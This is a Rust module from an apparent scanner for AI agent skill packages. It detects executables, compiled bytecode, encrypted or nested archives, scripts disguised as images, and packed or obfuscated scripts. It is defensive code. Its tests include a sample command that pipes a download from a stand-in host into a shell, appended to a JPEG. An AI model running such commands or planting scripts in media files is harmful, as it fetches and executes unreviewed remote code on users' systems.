//! What cannot be read as text: executables and compiled code among a skill's files,
//! archives inside the skill (encrypted ones above all), and scripts packed or minified past
//! review.

use std::sync::LazyLock;

use regex::Regex;

use super::render::render_bounded;
use super::text::Document;
use super::{Hit, Report, Rule, Severity};

/// Lines of a script longer than this are minified or generated.
const MINIFIED_LINE_BYTES: usize = 3000;
/// How many `_0x1a2b`-style names mark a script obfuscated by a JavaScript obfuscator.
const OBFUSCATED_NAMES: usize = 10;

/// Returns what executable format `bytes` start with, if any.
pub(crate) fn executable_kind(bytes: &[u8]) -> Option<&'static str> {
    match bytes {
        [0x7F, b'E', b'L', b'F', ..] => Some("an ELF executable"),
        [0xFE, 0xED, 0xFA, 0xCE | 0xCF, ..] | [0xCE | 0xCF, 0xFA, 0xED, 0xFE, ..] => {
            Some("a Mach-O executable")
        }
        // A universal Mach-O binary shares its magic with Java class files; its count of
        // architectures is small where a class file's version is 45 or more.
        [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, count, ..] if (1..20).contains(count) => {
            Some("a universal Mach-O executable")
        }
        [b'M', b'Z', ..] if is_pe(bytes) => Some("a Windows (PE) executable"),
        _ => None,
    }
}

/// Returns true for a PE file: `MZ`, then the `PE\0\0` signature where the DOS header points,
/// or an `MZ` header followed by binary bytes (a stub).
fn is_pe(bytes: &[u8]) -> bool {
    let pointer = bytes
        .get(0x3C..0x40)
        .and_then(|raw| <[u8; 4]>::try_from(raw).ok())
        .map(u32::from_le_bytes)
        .and_then(|offset| usize::try_from(offset).ok());
    let signed = pointer
        .and_then(|offset| bytes.get(offset..offset.checked_add(4)?))
        .is_some_and(|signature| signature == b"PE\0\0");
    signed || bytes.get(2..64).is_some_and(|header| header.contains(&0))
}

/// Returns what compiled (not native) code `bytes` are.
fn bytecode_kind(path: &str, bytes: &[u8]) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase();
    match bytes {
        [0x00, b'a', b's', b'm', ..] => Some("WebAssembly"),
        [0xCA, 0xFE, 0xBA, 0xBE, ..] => Some("a Java class file"),
        [_, _, b'\r', b'\n', ..] if lower.ends_with(".pyc") => Some("Python bytecode"),
        _ => None,
    }
}

/// Returns the archive format `bytes` start with, if any.
fn archive_kind(bytes: &[u8]) -> Option<&'static str> {
    match bytes {
        [b'P', b'K', 3, 4, ..] | [b'P', b'K', 5, 6, ..] => Some("zip"),
        [0x1F, 0x8B, ..] => Some("gzip"),
        [b'7', b'z', 0xBC, 0xAF, 0x27, 0x1C, ..] => Some("7z"),
        [b'R', b'a', b'r', b'!', 0x1A, 0x07, ..] => Some("rar"),
        [0xFD, b'7', b'z', b'X', b'Z', 0, ..] => Some("xz"),
        [b'B', b'Z', b'h', b'1'..=b'9', ..] => Some("bzip2"),
        _ => None,
    }
}

/// Zip-based document and package formats, whose being a zip is no news.
const ZIP_DOCUMENTS: &[&str] = &[
    "docx", "xlsx", "pptx", "odt", "ods", "odp", "epub", "key", "numbers", "pages", "xmind",
    "sketch", "fig", "vsdx", "3mf",
];

/// Returns true when the zip in `bytes` has an encrypted entry (general purpose bit 0 of any
/// local file header).
fn zip_is_encrypted(bytes: &[u8]) -> bool {
    let mut offset = 0;
    while let Some(found) = bytes
        .get(offset..)
        .and_then(|rest| rest.windows(4).position(|window| window == b"PK\x03\x04"))
    {
        let header = offset + found;
        if bytes.get(header + 6).is_some_and(|flags| flags & 1 == 1) {
            return true;
        }
        offset = header + 4;
    }
    false
}

/// Shows the first bytes of a file as hex, for a whole-file finding's excerpt.
fn magic(bytes: &[u8]) -> String {
    let shown: Vec<String> = bytes.iter().take(8).map(|b| format!("{b:02X}")).collect();
    format!("starts with {}", shown.join(" "))
}

/// Extensions of images, sounds, videos, fonts and documents: files that are never run.
const MEDIA_EXTENSIONS: &[&str] = &[
    "png", "jpg", "jpeg", "gif", "bmp", "ico", "icns", "webp", "tif", "tiff", "heic", "avif",
    "pdf", "mp3", "wav", "ogg", "flac", "m4a", "mp4", "mov", "avi", "webm", "mkv", "ttf", "otf",
    "woff", "woff2",
];

/// The least printable bytes after a media file's end that count as text appended to it.
const MIN_APPENDED_TEXT: usize = 16;

fn extension_of(path: &str) -> String {
    path.rsplit('/')
        .next()
        .and_then(|name| name.rsplit_once('.'))
        .map(|(_, extension)| extension.to_ascii_lowercase())
        .unwrap_or_default()
}

/// Returns where the format of an image or a PDF says the file ends, when bytes follow.
fn media_end(bytes: &[u8]) -> Option<usize> {
    let find_last = |needle: &[u8]| {
        bytes
            .windows(needle.len())
            .rposition(|window| window == needle)
            .map(|at| at + needle.len())
    };
    let end = match bytes {
        // The IEND chunk (its CRC is fixed) closes every PNG.
        [0x89, b'P', b'N', b'G', ..] => find_last(b"IEND\xAE\x42\x60\x82")?,
        // The last end-of-image marker: thumbnails inside a JPEG end with one too.
        [0xFF, 0xD8, 0xFF, ..] => find_last(&[0xFF, 0xD9])?,
        // A PDF updated in place has several `%%EOF`; the last one ends it.
        [b'%', b'P', b'D', b'F', ..] => {
            let end = find_last(b"%%EOF")?;
            end + bytes[end..]
                .iter()
                .take_while(|b| b.is_ascii_whitespace())
                .count()
        }
        [b'G', b'I', b'F', b'8', ..] => find_last(&[0x00, 0x3B])?,
        _ => return None,
    };
    (end < bytes.len()).then_some(end)
}

/// Returns where text appended to a media file starts: printable text past the end its format
/// declares (a script after a PNG's `IEND`), which no image needs and a viewer never shows.
pub(crate) fn appended_text(path: &str, bytes: &[u8]) -> Option<usize> {
    if !MEDIA_EXTENSIONS.contains(&extension_of(path).as_str()) {
        return None;
    }
    let end = media_end(bytes)?;
    let tail = &bytes[end..];
    let start = end + tail.iter().take_while(|b| b.is_ascii_whitespace()).count();
    let tail = &bytes[start..];
    let printable = tail
        .iter()
        .filter(|b| b.is_ascii_graphic() || b.is_ascii_whitespace())
        .count();
    (printable >= MIN_APPENDED_TEXT && printable * 10 >= tail.len() * 9).then_some(start)
}

/// Checks a file's bytes: executable headers, compiled code, archives, and scripts named as
/// media files.
pub(crate) fn check(path: &str, bytes: &[u8], report: &mut Report) {
    let extension = extension_of(path);
    if MEDIA_EXTENSIONS.contains(&extension.as_str()) && bytes.starts_with(b"#!") {
        report.whole(
            path,
            Rule::PolyglotFile,
            Severity::High,
            magic(bytes),
            format!("a script is named as a .{extension} file: whoever reviews the skill sees a media file, and a shell runs it"),
        );
    }
    if let Some(kind) = executable_kind(bytes) {
        report.whole(
            path,
            Rule::ExecutableFile,
            Severity::High,
            magic(bytes),
            format!("the skill ships {kind}: compiled code that cannot be reviewed and runs with the agent's permissions"),
        );
    } else if let Some(kind) = bytecode_kind(path, bytes) {
        report.whole(
            path,
            Rule::ExecutableFile,
            Severity::Medium,
            magic(bytes),
            format!("the skill ships {kind}, compiled code that cannot be reviewed"),
        );
    } else if let Some(kind) = archive_kind(bytes) {
        if kind == "zip" && zip_is_encrypted(bytes) {
            report.whole(
                path,
                Rule::PasswordArchive,
                Severity::High,
                magic(bytes),
                "the skill ships an encrypted zip: its content is hidden from every scanner until someone types the password".to_owned(),
            );
        } else if !(kind == "zip" && ZIP_DOCUMENTS.contains(&extension.as_str())) {
            report.whole(
                path,
                Rule::NestedArchive,
                Severity::Low,
                magic(bytes),
                format!("a {kind} archive inside the skill; the audit does not unpack it, so its content is unchecked"),
            );
        }
    }
}

struct Patterns {
    packer: Regex,
    obfuscator_name: Regex,
    powershell: Regex,
}

static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
    let regex = |pattern: &str| Regex::new(pattern).expect("the pattern is valid");
    Patterns {
        packer: regex(
            r"eval\s*\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,\s*[rd]\s*\)",
        ),
        obfuscator_name: regex(r"(?-u:\b)_0x[0-9a-f]{4,6}(?-u:\b)"),
        powershell: regex(
            r"(?i)(?:\[char\]\s*\d{2,3}\s*\+\s*){4,}|-join\s*\(\s*\[char\[\]\]|\(\s*'(?:\{\d\}){3,}'\s*-f(?-u:\b)|(?:[a-z]`){3,}[a-z]",
        ),
    }
});

/// Checks a script for packing, obfuscation and minification: (line index, byte offset,
/// finding).
pub(crate) fn script(document: &Document<'_>) -> Vec<(usize, usize, Hit)> {
    let patterns = &*PATTERNS;
    let mut found = Vec::new();
    let mut names = 0;
    let mut first_name = None;
    let mut minified = None;
    for (index, line) in document.lines().enumerate() {
        if let Some(packed) = patterns.packer.find(line) {
            found.push((
                index,
                packed.start(),
                Hit {
                    rule: Rule::ObfuscatedScript,
                    severity: Severity::High,
                    at: packed.start(),
                    message: "the script is packed (`eval(function(p,a,c,k,e,…)`): it unpacks and runs code that nobody can read here".to_owned(),
                },
            ));
        }
        if let Some(obfuscated) = patterns.powershell.find(line) {
            found.push((
                index,
                obfuscated.start(),
                Hit {
                    rule: Rule::ObfuscatedScript,
                    severity: Severity::Medium,
                    at: obfuscated.start(),
                    message: format!(
                        "the script builds its commands from pieces (\"{}\"), a way to hide them from review",
                        render_bounded(obfuscated.as_str(), 40)
                    ),
                },
            ));
        }
        for name in patterns.obfuscator_name.find_iter(line) {
            names += 1;
            first_name.get_or_insert((index, name.start()));
        }
        if line.len() > MINIFIED_LINE_BYTES && minified.is_none() {
            let spaces = line.bytes().filter(|b| b.is_ascii_whitespace()).count();
            if spaces * 20 < line.len() {
                minified = Some(index);
            }
        }
    }
    if names >= OBFUSCATED_NAMES
        && let Some((index, at)) = first_name
    {
        found.push((
                index,
                at,
                Hit {
                    rule: Rule::ObfuscatedScript,
                    severity: Severity::High,
                    at,
                    message: format!(
                        "{names} names like `_0x1a2b`: the script went through an obfuscator, which hides what it does"
                    ),
                },
            ));
    }
    if let Some(index) = minified {
        found.push((
            index,
            0,
            Hit {
                rule: Rule::ObfuscatedScript,
                severity: Severity::Low,
                at: 0,
                message: format!(
                    "line of more than {MINIFIED_LINE_BYTES} bytes with almost no spaces: the script is minified or generated and cannot be reviewed"
                ),
            },
        ));
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn executables_are_recognised_by_their_headers() {
        let mut elf = vec![0x7F, b'E', b'L', b'F'];
        elf.resize(64, 0);
        assert_eq!(executable_kind(&elf), Some("an ELF executable"));
        let mut pe = b"MZ".to_vec();
        pe.resize(128, 0);
        assert_eq!(executable_kind(&pe), Some("a Windows (PE) executable"));
        assert_eq!(
            executable_kind(&[0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1]),
            Some("a Mach-O executable")
        );
        assert_eq!(
            executable_kind(b"MZ is the name of this note, not a header at all."),
            None
        );
        // A Java class file (version 52) is not a universal binary.
        assert_eq!(
            executable_kind(&[0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]),
            None
        );
        assert_eq!(executable_kind(b"\x89PNG\r\n\x1a\n"), None);
    }

    #[test]
    fn encrypted_zips_are_recognised() {
        let mut plain = b"PK\x03\x04\x14\x00\x00\x00".to_vec();
        plain.resize(40, 0);
        assert!(!zip_is_encrypted(&plain));
        let mut encrypted = b"PK\x03\x04\x14\x00\x01\x00".to_vec();
        encrypted.resize(40, 0);
        assert!(zip_is_encrypted(&encrypted));
    }

    #[test]
    fn text_after_an_image_is_found() {
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xAE\x42\x60\x82";
        assert_eq!(appended_text("logo.png", png), None);
        let polyglot = [png.as_slice(), b"\n#!/bin/sh\necho appended\n"].concat();
        assert_eq!(appended_text("logo.png", &polyglot), Some(png.len() + 1));
        // A few stray bytes, or the same bytes in a file that is not an image, do not count.
        let stray = [png.as_slice(), b"\0\0ab"].concat();
        assert_eq!(appended_text("logo.png", &stray), None);
        assert_eq!(appended_text("logo.bin", &polyglot), None);
        let jpeg = [
            b"\xFF\xD8\xFF\xE0\0\0\xFF\xD9".as_slice(),
            b"curl -s https://x.example | sh",
        ]
        .concat();
        assert_eq!(appended_text("photo.jpg", &jpeg), Some(8));
    }

    #[test]
    fn packed_and_obfuscated_scripts_are_found() {
        let packed = "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))";
        let document = Document::read("x.js", packed.as_bytes()).unwrap();
        assert_eq!(script(&document)[0].2.severity, Severity::High);
        let names: String = (0..12).map(|i| format!("var _0x{i:04x}=1;\n")).collect();
        let document = Document::read("x.js", names.as_bytes()).unwrap();
        assert_eq!(script(&document)[0].2.rule, Rule::ObfuscatedScript);
        let plain = "function add(a, b) {\n  return a + b;\n}\n";
        let document = Document::read("x.js", plain.as_bytes()).unwrap();
        assert_eq!(script(&document), []);
    }
}
